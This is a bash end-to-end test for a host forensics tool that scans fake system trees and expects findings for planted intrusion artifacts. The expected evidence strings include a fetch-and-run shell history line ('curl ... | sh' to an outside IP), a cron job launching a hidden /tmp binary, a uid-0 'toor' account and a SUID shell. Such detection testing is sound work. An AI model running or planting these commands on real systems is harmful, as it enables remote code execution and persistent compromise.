#!/usr/bin/env bash
# host.sh - `kansatsu host --root` on fake system trees: the planted tree
# gives exactly the findings of its anomalies, the clean tree none; the
# notes say what was skipped; the views, the baseline, and a symlink that
# must resolve inside the tree, not on the host running the test.
. "$(dirname "$0")/lib.sh"
. "$KS_E2E/hosttree.sh"

make_tree "$tmp/clean" clean
make_tree "$tmp/planted" planted

# the clean tree: nothing, exit 0
expect_rc "clean tree" 0 "$KANSATSU" host --root "$tmp/clean" --format jsonl \
    --fail-on info >"$tmp/out" 2>"$tmp/err"
expect_eq "clean tree findings" "$(cat "$tmp/out")" ""
expect_grep "live checks skipped" "processes: skipped: needs the running system" "$tmp/err"
expect_grep "kernel skipped" "kernel: skipped" "$tmp/err"

# the planted tree: exactly its anomalies
expect_rc "planted tree" 1 "$KANSATSU" host --root "$tmp/planted" --format jsonl \
    >"$tmp/out" 2>"$tmp/err"
expect_eq "planted findings" "$(findings_of <"$tmp/out")" "$planted_findings"
expect_eq "host name from the image" \
    "$(jq -r .host.name "$tmp/out" | sort -u)" "school"
expect_eq "zeroed records: count and place" \
    "$(jq -r 'select(.rule == "login-record-zeroed") |
      "\(.count) \(.evidence[0].line) \(.evidence[0].text | test("^2 zeroed records after "))"' "$tmp/out")" \
    "2 4 true"
expect_eq "uid 0 evidence" \
    "$(jq -r 'select(.rule == "account-uid0") | .evidence[0] | "\(.path):\(.line): \(.text)"' "$tmp/out")" \
    "/etc/passwd:7: toor:x:0:0::/root:/bin/bash"
expect_eq "history evidence" \
    "$(jq -r 'select(.rule == "history-fetch-exec") | "\(.user.name) \(.evidence[0].line) \(.evidence[0].text)"' "$tmp/out")" \
    "root 3 curl -s http://203.0.113.9/x.sh | sh"
expect_eq "crontab evidence" \
    "$(jq -r 'select(.rule == "persist-tmp-exec") | .evidence[0].text' "$tmp/out")" \
    "*/5 * * * * root /tmp/.x/sysupdate >/dev/null 2>&1"
expect_eq "classification of the SUID shell" \
    "$(jq -r 'select(.rule == "file-suid-tmp") | "\(.severity) \(.classification.taxonomy)/\(.classification.type)"' "$tmp/out")" \
    "critical intrusions/privileged-account-compromise"

# --check narrows, --fail-on decides the exit status
got=$(ks_findings host --root "$tmp/planted" --check accounts,history)
expect_eq "--check" "$got" "account-uid0 toor
history-fetch-exec /root/.bash_history"
expect_rc "--fail-on critical with a critical finding" 1 "$KANSATSU" host \
    --root "$tmp/planted" --check accounts --fail-on critical -q >"$tmp/out"
expect_rc "--fail-on critical without one" 0 "$KANSATSU" host \
    --root "$tmp/planted" --check history --fail-on critical -q >"$tmp/out"

# text output: escaped, with a count
"$KANSATSU" host --root "$tmp/planted" --check files >"$tmp/text" \
    2>"$tmp/err" || true
expect_grep "text headline" "CRITICAL  file-suid-tmp: A SUID or SGID file in a temporary directory" "$tmp/text"
expect_grep "text count" "2 findings" "$tmp/text"

# baseline: saved from the clean tree, the planted tree has a new account
expect_rc "save baseline" 0 "$KANSATSU" host --root "$tmp/clean" \
    --check accounts --save-baseline "$tmp/base" -q
expect_eq "baseline accounts" "$(grep -c '^account ' "$tmp/base")" 6
expect_grep "baseline header" "kansatsu-baseline 1" "$tmp/base"
got=$(ks_findings host --root "$tmp/planted" --check accounts \
    --baseline "$tmp/base")
expect_eq "--baseline" "$got" "account-new toor
account-uid0 toor"
printf 'kansatsu-baseline 1\naccount x\n' >"$tmp/badbase"
expect_rc "bad baseline" 2 "$KANSATSU" host --root "$tmp/clean" \
    --baseline "$tmp/badbase" 2>"$tmp/err"
expect_grep "bad baseline message" "line 2: an account record is NAME UID GID HOME SHELL" "$tmp/err"

# the views
"$KANSATSU" host --root "$tmp/planted" --show logins >"$tmp/view"
expect_grep "last: zeroed records" "(record 4 is all zeros)" "$tmp/view"
expect_grep "last: a login" "mity     pts/0        192.168.0.27" "$tmp/view"
expect_grep "last: logout" "system boot" "$tmp/view"
"$KANSATSU" host --root "$tmp/planted" --show accounts >"$tmp/view"
expect_grep "accounts view" "toor             0      0      set       /bin/bash" "$tmp/view"
"$KANSATSU" host --root "$tmp/planted" --show persistence >"$tmp/view"
expect_grep "persistence view" "/tmp/.x/sysupdate" "$tmp/view"
expect_grep "unit view" "ExecStart      /usr/sbin/sshd -D \$SSHD_OPTS" "$tmp/view"

# an absolute symlink in the image resolves inside the image
mkdir -p "$tmp/link/etc"
printf 'root:x:0:0::/root:/bin/sh\nlinked:x:0:0::/:/bin/sh\n' >"$tmp/link/etc/passwd.real"
ln -s /etc/passwd.real "$tmp/link/etc/passwd"
got=$(ks_findings host --root "$tmp/link" --check accounts)
expect_eq "symlink inside the root" "$got" "account-uid0 linked"

# usage errors
expect_rc "bad --check" 2 "$KANSATSU" host --check frobs 2>"$tmp/err"
expect_grep "bad --check message" "unknown check 'frobs'" "$tmp/err"
expect_rc "bad --show" 2 "$KANSATSU" host --show sockets2 2>"$tmp/err"
expect_rc "missing root" 2 "$KANSATSU" host --root "$tmp/nonexistent" 2>"$tmp/err"
expect_rc "arguments" 2 "$KANSATSU" host extra 2>"$tmp/err"
expect_rc "--help" 0 "$KANSATSU" host --help >"$tmp/out"
expect_grep "--help" "usage: kansatsu host" "$tmp/out"

done_ok
